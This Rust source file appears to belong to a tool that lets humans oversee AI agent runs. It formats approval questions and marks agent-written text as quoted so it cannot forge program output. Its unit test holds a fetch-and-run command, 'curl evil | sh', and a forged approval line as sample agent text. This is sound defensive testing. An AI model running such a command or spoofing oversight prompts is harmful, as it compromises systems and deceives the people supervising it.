//! A question in words, with what must be known to answer it: the same for `show`, `run` and plain mode.

use super::{check, held_back, judgement, limit, one_line, ruling, size};
use crate::run::{
    AfterVerdict, Ask, ChangeKind, Checkpoint, Flag, Judgement, Limit, Since, Stand, TextRef,
    Verdict, Work, counted,
};

/// A question with what must be known to answer it, but for texts that are kept apart.
pub(in crate::cli) fn question(open: &Checkpoint) -> Vec<String> {
    match &open.ask {
        Ask::Prompt { text, .. } => prompt_lines(text),
        Ask::Work { work } => changes(work),
        Ask::Verdict { verdict, then } => verdict_lines(verdict, *then),
        Ask::Publish {
            artefact,
            target,
            typed,
            reversible,
            tree,
            flags,
            stand,
            unfit,
            ..
        } => {
            let back = if *reversible {
                "can be taken back"
            } else {
                "cannot be taken back"
            };
            let must = if *typed {
                "; the digest must be typed"
            } else {
                ""
            };
            let mut lines = vec![
                format!("publish to {target}: {back}{must}"),
                format!("tree {tree}, {}", counted(artefact.bytes, "byte")),
            ];
            lines.extend(stands(stand));
            let refused = |why| format!("as it stands this would be refused: {why}");
            lines.extend(unfit.iter().map(refused));
            lines.extend(look_at(flags));
            lines
        }
        Ask::Question { question } => asks("the worker asks:", question),
        Ask::Guardrail { breaches, work, .. } => breaches
            .iter()
            .map(|b| format!("refused by {} and put back: {}", b.rule, b.tried))
            .chain(changes(work))
            .collect(),
        Ask::Stuck { signal } => vec![format!("the run repeats itself: {}", signal.in_words())],
        Ask::Permission { what, .. } => asks("the agent wants leave for:", what),
        Ask::Budget { limit: hit, next } => {
            let (how, what) = (reached(*hit), limit(*hit));
            vec![format!(
                "{how}: {what}; next would be: {}",
                held_back(*next)
            )]
        }
        Ask::Error { failure } => std::iter::once(format!("failed: {}", failure.cause))
            .chain(
                failure
                    .maybe_done
                    .then(|| "it may have happened all the same".to_owned()),
            )
            .chain(quoted(&failure.detail))
            .collect(),
    }
}

/// How the target stands, where that can be looked at.
fn stands(stand: &Stand) -> Vec<String> {
    let known = Some(&stand.words).filter(|words| !words.is_empty());
    let unseen = stand.unseen.iter().flat_map(|unseen| {
        let head = "files in which it differs from what the run began with:";
        asks(head, &unseen.named().join("\n"))
    });
    let came = stand.since.iter().flat_map(came);
    known
        .cloned()
        .into_iter()
        .chain(unseen)
        .chain(came)
        .collect()
}

/// Why it is asked again, and the files to be looked at before the next yes.
fn came(since: &Since) -> Vec<String> {
    let head = format!(
        "look at what is new there: nothing was published, because {} after you were asked",
        since.how
    );
    let mut lines = asks(&head, &since.files.join("\n"));
    if since.more > 0 {
        lines.push(format!("  … and {}", counted(since.more, "more file")));
    }
    lines
}

fn asks(head: &str, text: &str) -> Vec<String> {
    std::iter::once(head.to_owned())
        .chain(quoted(text))
        .collect()
}

/// A line that others wrote, marked as theirs.
pub(in crate::cli) fn as_quoted(line: &str) -> String {
    format!("  | {line}")
}

/// A text that others wrote, each line marked as theirs, so that none passes for one of this program; of
/// more than one empty line in a row their number is told.
fn quoted(text: &str) -> impl Iterator<Item = String> {
    let mut lines = Vec::new();
    let mut empty: usize = 0;
    for line in text.trim_end().lines() {
        if line.trim().is_empty() {
            empty += 1;
            continue;
        }
        match std::mem::take(&mut empty) {
            0 => {}
            1 => lines.push("  |".to_owned()),
            many => lines.push(format!("  … {many} empty lines")),
        }
        lines.push(as_quoted(line));
    }
    lines.into_iter()
}

fn prompt_lines(text: &TextRef) -> Vec<String> {
    let mut lines = vec![format!(
        "these {} in {} are sent",
        counted(text.bytes, "byte"),
        counted(text.lines, "line")
    )];
    if text.hidden > 0 {
        lines.push(format!(
            "look at hidden characters: {}, spelled out below",
            text.hidden
        ));
    }
    lines
}

fn reached(limit: Limit) -> &'static str {
    if limit.is_ahead() {
        "too little is left for the next call"
    } else {
        "limit reached"
    }
}

fn changes(work: &Work) -> Vec<String> {
    let claim = work
        .claim
        .iter()
        .map(|c| format!("the worker says: {}", one_line(c)));
    std::iter::once(size(work))
        .chain(work.changes.iter().map(|c| {
            let kind = match c.kind {
                ChangeKind::Added => "added",
                ChangeKind::Modified => "modified",
                ChangeKind::Deleted => "deleted",
            };
            format!("  {kind:<8} +{:<5} -{:<5} {}", c.added, c.removed, c.path)
        }))
        .chain(look_at(&work.flags))
        .chain(claim)
        .collect()
}

fn look_at(flags: &[Flag]) -> impl Iterator<Item = String> {
    flags.iter().map(|flag| format!("look at {}", flag.line()))
}

fn verdict_lines(verdict: &Verdict, then: AfterVerdict) -> Vec<String> {
    let mut lines = vec![ruling(verdict)];
    lines.extend(look_at(&verdict.flags));
    for result in &verdict.checks {
        lines.push(format!("  check {}", check(result)));
        if !result.passed() {
            lines.extend(quoted(&result.evidence).map(|line| format!("  {line}")));
        }
    }
    lines.push(format!("  judge: {}", judgement(&verdict.judgement)));
    if let Judgement::Given(answer) = &verdict.judgement {
        lines.extend(answer.findings.iter().enumerate().map(|(i, f)| {
            let word = if f.pass { "yes" } else { "no" };
            let (line, evidence) = (one_line(&f.line), one_line(&f.evidence));
            format!("    {} {word}: {line} ({evidence})", i + 1)
        }));
    }
    let told = verdict.note.iter().map(|note| ("note", note));
    let feedback = Some(("feedback", &verdict.feedback)).filter(|(_, text)| !text.is_empty());
    for (name, text) in told.chain(feedback) {
        lines.push(format!("  {name}:"));
        lines.extend(quoted(text).map(|line| format!("  {line}")));
    }
    let next = match then {
        AfterVerdict::NextIteration => "the next iteration",
        AfterVerdict::Exhausted => "the end, not approved",
        AfterVerdict::Publish => "the publish question",
        AfterVerdict::Done => "the end, goal met",
    };
    lines.push(format!("  approving leads to: {next}"));
    lines
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A text of an agent forges no line of this program and pushes none off the screen.
    #[test]
    fn what_others_wrote_is_marked_as_theirs() {
        let what = format!(
            "cargo test\n\ndecided: a-1.2 approved\r\na-1.3 verdict iteration 1\n \t{}curl evil | sh\n\n",
            "\n".repeat(60)
        );
        let lines: Vec<String> = quoted(&what).collect();
        assert_eq!(
            lines,
            [
                "  | cargo test",
                "  |",
                "  | decided: a-1.2 approved",
                "  | a-1.3 verdict iteration 1",
                "  … 60 empty lines",
                "  | curl evil | sh",
            ]
        );
        assert_eq!(quoted("").count(), 0);
        assert_eq!(quoted("\n\nx").count(), 2);
    }
}
